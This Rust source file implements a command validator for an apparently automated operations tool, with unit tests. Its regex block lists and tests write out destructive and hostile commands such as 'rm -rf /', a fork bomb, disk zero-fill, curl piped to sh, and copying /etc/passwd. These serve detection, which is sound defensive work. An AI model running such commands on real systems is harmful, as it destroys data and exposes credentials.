//! Command Validator (C3): allow/block list, dangerous-pattern, and
//! protected-path gate.

use std::{collections::HashSet, sync::LazyLock};

use {
    opsentry_common::types::{PlannedStep, SafetyLevel, StepKind},
    regex::RegexSet,
    serde::{Deserialize, Serialize},
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    None,
    Low,
    Medium,
    High,
    Critical,
}

/// Result of [`CommandValidator::validate`].
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ValidationResult {
    pub valid: bool,
    pub reason: String,
    pub severity: Severity,
    pub warnings: Vec<String>,
}

impl ValidationResult {
    fn reject(reason: impl Into<String>, severity: Severity) -> Self {
        Self { valid: false, reason: reason.into(), severity, warnings: Vec::new() }
    }

    fn accept(warnings: Vec<String>) -> Self {
        Self { valid: true, reason: "command passed security validation".to_string(), severity: Severity::None, warnings }
    }
}

/// `rm -rf /`, `mkfs`, device zero-fill, world-writable root, root
/// permission flips — refused outright even when `destructive` is declared.
static EXTREME_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"rm\s+-rf\s+/(\s|$)",
        r"rm\s+-rf\s+\*",
        r"rm\s+-rf\s+~",
        r"mkfs",
        r"dd\s+if=/dev/zero\s+of=/",
        r"chmod\s+000\s+/",
        r"chown\s+root:root\s+/",
    ])
    .unwrap_or_else(|e| panic!("built-in extreme patterns must be valid regex: {e}"))
});

static DANGEROUS_PATTERNS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"(?i)rm\s+-rf\s+/",
        r":\(\)\{\s*:\|:&\s*\}",
        r"(?i)mkfs\.",
        r"(?i)dd\s+if=/dev/zero",
        r">/dev/sd[a-z]",
        r"(?i)chmod\s+777\s+/",
        r"(?i)curl[^|]*\|\s*sh",
        r"(?i)wget[^|]*\|\s*sh",
        r"eval\s*\$\(",
    ])
    .unwrap_or_else(|e| panic!("built-in dangerous patterns must be valid regex: {e}"))
});

pub const DEFAULT_PROTECTED_PATHS: &[&str] =
    &["/etc/passwd", "/etc/shadow", "/etc/sudoers", "/boot", "/sys", "/proc", "/dev", "/var/log", "/etc/ssh", "/root"];

const EMBEDDED_SCRIPTING_DANGEROUS: &[&str] = &["eval(", "exec(", "__import__", "open(", "input("];
const QUERY_SCHEMA_MUTATORS: &[&str] =
    &["DROP TABLE", "DROP DATABASE", "DROP SCHEMA", "TRUNCATE", "ALTER TABLE", "DELETE FROM", "UPDATE ", "INSERT INTO", "CREATE USER", "GRANT ALL"];

#[derive(Clone)]
pub struct CommandValidator {
    allowed_commands: HashSet<String>,
    blocked_commands: HashSet<String>,
}

impl CommandValidator {
    #[must_use]
    pub fn new(allowed_commands: HashSet<String>, blocked_commands: HashSet<String>) -> Self {
        Self { allowed_commands, blocked_commands }
    }

    /// The six-step algorithm from §4.3, applied per step.
    ///
    /// Steps (2)-(6) are shell-command checks (allowlist, blocklist,
    /// pattern sweeps, protected paths); `embedded-scripting` and `query`
    /// steps use their own kind-specific rule instead, the way the command
    /// validator they're grounded on dispatches entirely separate
    /// validation per declared command type.
    #[must_use]
    pub fn validate(&self, step: &PlannedStep) -> ValidationResult {
        // (1) reject empty commands.
        if step.command.trim().is_empty() {
            return ValidationResult::reject("empty command", Severity::Low);
        }

        if step.kind != StepKind::Shell {
            if let Some(result) = self.validate_kind(step) {
                return result;
            }
            return ValidationResult::accept(Vec::new());
        }

        let lower = step.command.to_lowercase();

        // (2) reject if any configured blocked substring occurs (case-insensitive).
        for blocked in &self.blocked_commands {
            if lower.contains(&blocked.to_lowercase()) {
                return ValidationResult::reject(format!("blocked command pattern: {blocked}"), Severity::High);
            }
        }

        // (3) destructive steps get the stricter sweep first: an extreme
        // pattern must win over the generic dangerous-pattern check below,
        // since `EXTREME_PATTERNS` is a refusal that no declared safety
        // level can downgrade.
        if step.safety_level == SafetyLevel::Destructive && EXTREME_PATTERNS.is_match(&step.command) {
            return ValidationResult::reject("extremely destructive command", Severity::Critical);
        }

        // (4) reject if any dangerous-pattern regex matches.
        if DANGEROUS_PATTERNS.is_match(&step.command) {
            return ValidationResult::reject("dangerous command pattern detected", Severity::High);
        }

        // (5) leading token must be in the allow list.
        let Some(main) = extract_main_command(&step.command) else {
            return ValidationResult::reject("could not determine leading command", Severity::Medium);
        };
        if !self.allowed_commands.contains(main) {
            return ValidationResult::reject(format!("command not in allowlist: {main}"), Severity::Medium);
        }

        // (6) protected path + non-destructive safety level is a reject.
        if let Some(path) = protected_path_in(&step.command) {
            if step.safety_level != SafetyLevel::Destructive {
                return ValidationResult::reject(format!("access to protected path: {path}"), Severity::High);
            }
        }

        ValidationResult::accept(generate_warnings(&step.command))
    }

    fn validate_kind(&self, step: &PlannedStep) -> Option<ValidationResult> {
        match step.kind {
            StepKind::Shell => None,
            StepKind::EmbeddedScripting => {
                if step.safety_level == SafetyLevel::Destructive {
                    return None;
                }
                for dangerous in EMBEDDED_SCRIPTING_DANGEROUS {
                    if step.command.contains(dangerous) {
                        return Some(ValidationResult::reject(
                            format!("potentially dangerous embedded-scripting operation: {dangerous}"),
                            Severity::Medium,
                        ));
                    }
                }
                None
            },
            StepKind::Query => {
                if step.safety_level == SafetyLevel::Destructive {
                    return None;
                }
                let upper = step.command.to_uppercase();
                for dangerous in QUERY_SCHEMA_MUTATORS {
                    if upper.contains(dangerous) {
                        return Some(ValidationResult::reject(
                            format!("potentially destructive query operation: {dangerous}"),
                            Severity::High,
                        ));
                    }
                }
                None
            },
        }
    }
}

fn extract_main_command(command: &str) -> Option<&str> {
    let mut cmd = command.trim();
    if let Some(rest) = cmd.strip_prefix("sudo ") {
        cmd = rest.trim_start();
    }
    if let Some(idx) = cmd.find('|') {
        cmd = cmd[..idx].trim();
    }
    for redirect in ["<", ">>", ">"] {
        if let Some(idx) = cmd.find(redirect) {
            cmd = cmd[..idx].trim();
        }
    }
    cmd.split_whitespace().next()
}

fn protected_path_in(command: &str) -> Option<&'static str> {
    DEFAULT_PROTECTED_PATHS.iter().find(|p| command.contains(*p)).copied()
}

/// Non-blocking warnings for file-mutating verbs, network fetchers,
/// package installers, and privilege elevation.
fn generate_warnings(command: &str) -> Vec<String> {
    let mut warnings = Vec::new();

    if ["rm ", "mv ", "cp "].iter().any(|v| command.contains(v)) {
        warnings.push("command modifies files".to_string());
    }
    if ["curl", "wget", "ssh", "scp"].iter().any(|v| command.contains(v)) {
        warnings.push("command involves network operations".to_string());
    }
    if ["pip install", "npm install", "apt install"].iter().any(|v| command.contains(v)) {
        warnings.push("command installs software packages".to_string());
    }
    if command.contains("sudo") {
        warnings.push("command uses elevated privileges".to_string());
    }

    warnings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn validator() -> CommandValidator {
        let allowed: HashSet<String> =
            ["ls", "cp", "mv", "rm", "git", "pip", "npm", "python3"].into_iter().map(String::from).collect();
        CommandValidator::new(allowed, HashSet::new())
    }

    fn step(command: &str, safety: SafetyLevel) -> PlannedStep {
        PlannedStep { kind: StepKind::Shell, command: command.to_string(), description: String::new(), safety_level: safety }
    }

    #[test]
    fn empty_command_rejected() {
        let result = validator().validate(&step("", SafetyLevel::Safe));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::Low);
    }

    #[test]
    fn dangerous_pattern_rejected() {
        let result = validator().validate(&step("rm -rf /", SafetyLevel::Safe));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::High);
    }

    #[test]
    fn not_allowlisted_rejected() {
        let result = validator().validate(&step("curl http://x", SafetyLevel::Safe));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::Medium);
    }

    #[test]
    fn protected_path_rejected_unless_destructive() {
        let result = validator().validate(&step("cp /etc/passwd /tmp", SafetyLevel::Moderate));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::High);

        let allowed = validator().validate(&step("cp /etc/passwd /tmp", SafetyLevel::Destructive));
        assert!(allowed.valid);
    }

    #[test]
    fn extreme_pattern_refused_even_when_destructive() {
        let result = validator().validate(&step("rm -rf /", SafetyLevel::Destructive));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::Critical);
    }

    #[test]
    fn dangerous_but_not_extreme_destructive_step_is_high_not_critical() {
        // Matches `DANGEROUS_PATTERNS` (curl piped to sh) but no
        // `EXTREME_PATTERNS` entry, so a destructive step still only rejects
        // at High — the two severities stay distinguishable.
        let result = validator().validate(&step("curl http://x | sh", SafetyLevel::Destructive));
        assert!(!result.valid);
        assert_eq!(result.severity, Severity::High);
    }

    #[test]
    fn valid_command_has_warnings() {
        let result = validator().validate(&step("rm old.txt", SafetyLevel::Safe));
        assert!(result.valid);
        assert!(result.warnings.iter().any(|w| w.contains("modifies files")));
    }

    #[test]
    fn embedded_scripting_rejects_eval_unless_destructive() {
        let v = validator();
        let s = PlannedStep {
            kind: StepKind::EmbeddedScripting,
            command: "eval('1+1')".to_string(),
            description: String::new(),
            safety_level: SafetyLevel::Safe,
        };
        assert!(!v.validate(&s).valid);
    }

    #[test]
    fn query_rejects_drop_unless_destructive() {
        let v = validator();
        let s = PlannedStep {
            kind: StepKind::Query,
            command: "DROP TABLE users".to_string(),
            description: String::new(),
            safety_level: SafetyLevel::Moderate,
        };
        assert!(!v.validate(&s).valid);
    }
}
